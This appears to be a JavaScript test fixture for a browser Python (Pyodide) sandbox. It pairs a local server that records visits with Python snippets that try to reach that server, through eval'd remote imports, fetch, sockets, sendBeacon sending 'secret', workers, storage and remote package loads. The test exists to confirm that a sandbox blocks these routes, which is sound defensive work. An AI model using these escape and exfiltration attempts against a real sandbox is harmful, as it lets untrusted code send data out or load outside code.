/** What a hostile program tries, by the names of Python and of the browser; and the other site that would see it get out. */
import { createServer } from 'node:http';

/** Another site: it lets anyone in, and notes who came. */
export async function openElsewhere() {
  const visits = [];
  const server = createServer((request, response) => {
    visits.push(request.url);
    const isPage = request.url === '/page.html';
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': isPage ? 'text/html' : 'text/javascript',
    });
    response.end(isPage ? '<!doctype html>' : 'export default 1');
  });
  server.on('upgrade', (request, socket) => {
    visits.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/`,
    visits,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** What programs start with: `attempt` goes on whatever happens. */
export const prelude = (elsewhere) => `
import js, pyodide_js, sys
from pyodide.ffi import create_proxy, to_js
URL = ${JSON.stringify(elsewhere)}
def attempt(act):
    try:
        act()
    except BaseException as problem:
        print(type(problem).__name__, str(problem)[:200])
    else:
        print("no error")
def own(**parts):
    return to_js(parts, dict_converter=js.Object.fromEntries)
`;

/** Ways out, by name; each is the body of a program. */
export const WAYS_OUT = {
  'a text as a timer': `
attempt(lambda: js.setTimeout(f"import('{URL}timer.js')", 0))
attempt(lambda: js.setInterval(f"import('{URL}interval.js')", 0))
attempt(lambda: js.setTimeout(js.String.new(f"import('{URL}string-object.js')"), 0))
attempt(lambda: js.setTimeout(own(toString=create_proxy(lambda *_: f"import('{URL}to-string.js')")), 0))`,
  'code from text': `
code = f"import('{URL}code.js')"
from pyodide.code import run_js
attempt(lambda: run_js(code))
attempt(lambda: js.eval(code))
attempt(lambda: js.Function.new(code)())
attempt(lambda: js.Object.constructor.new(code)())
attempt(lambda: js.Reflect.construct(js.Object.constructor, to_js([code]))())
for maker in (pyodide_js.loadPackage, pyodide_js.runPythonAsync, js.Array.prototype.map, js.eval):
    attempt(lambda: maker.constructor.new(code)())
    attempt(lambda: js.Object.getPrototypeOf(maker).constructor.new(code)())
    attempt(lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(maker).constructor).new(code)())
attempt(lambda: js.ShadowRealm.new().evaluate(code))
`,
  'a font': `attempt(lambda: js.FontFace.new("x", f"url({URL}font?secret=1)").load())
attempt(lambda: js.fonts.add(1))`,
  'what fetches': `
attempt(lambda: js.fetch(URL + "fetch"))
attempt(lambda: js.XMLHttpRequest.new().open("GET", URL + "xhr", False))
attempt(lambda: js.EventSource.new(URL + "events"))
attempt(lambda: js.WebSocket.new(URL.replace("http", "ws") + "socket"))
attempt(lambda: js.WebSocketStream.new(URL.replace("http", "ws") + "stream"))
attempt(lambda: js.WebTransport.new(URL.replace("http:", "https:")))
attempt(lambda: js.RTCPeerConnection.new())
attempt(lambda: js.importScripts(URL + "scripts.js"))
attempt(lambda: js.navigator.sendBeacon(URL + "beacon", "secret"))
attempt(lambda: js.Image.new())
attempt(lambda: js.createImageBitmap(URL))
attempt(lambda: js.Request.new(URL))
attempt(lambda: js.WebAssembly.compileStreaming(js.fetch(URL + "wasm")))
attempt(lambda: js.navigator.serviceWorker.register(URL))
attempt(lambda: js.location.assign(URL + "location"))`,
  'other workers and pages': `
attempt(lambda: js.Worker.new(URL + "worker.js"))
attempt(lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([f"import '{URL}blob.js'"])))))
attempt(lambda: js.SharedWorker.new(URL + "shared.js"))
attempt(lambda: js.BroadcastChannel.new("x").postMessage(1))
attempt(lambda: js.MessageChannel.new())
attempt(lambda: js.navigator.locks.request("x", create_proxy(lambda _: None)))
attempt(lambda: js.Notification.new("x"))
attempt(lambda: js.close())`,
  'what the browser stores': `
attempt(lambda: js.caches.open("tensorglass"))
attempt(lambda: js.indexedDB.open("x"))
attempt(lambda: js.navigator.storage.getDirectory())
attempt(lambda: js.navigator.storageBuckets.open("x"))
attempt(lambda: js.cookieStore.set("x", "1"))
attempt(lambda: js.localStorage.setItem("x", "1"))
attempt(lambda: js.FileReaderSync.new())
attempt(lambda: pyodide_js.mountNativeFS("/x", js.navigator))
attempt(lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, own(), "/tmp"))`,
  "Python's own ways": `
import pyodide.http, urllib.request, socket, asyncio
attempt(lambda: pyodide.http.open_url(URL + "open-url"))
attempt(lambda: pyodide.http.pyfetch(URL + "pyfetch").send(None))
attempt(lambda: urllib.request.urlopen(URL + "urllib", timeout=1).read())
attempt(lambda: socket.create_connection(("127.0.0.1", int(URL.split(":")[2].strip("/"))), 1).send(b"GET /socket HTTP/1.0\\r\\n\\r\\n"))
attempt(lambda: pyodide_js.loadPackage(URL + "package.whl"))
attempt(lambda: pyodide_js.loadPackage("micropip"))
`,
};
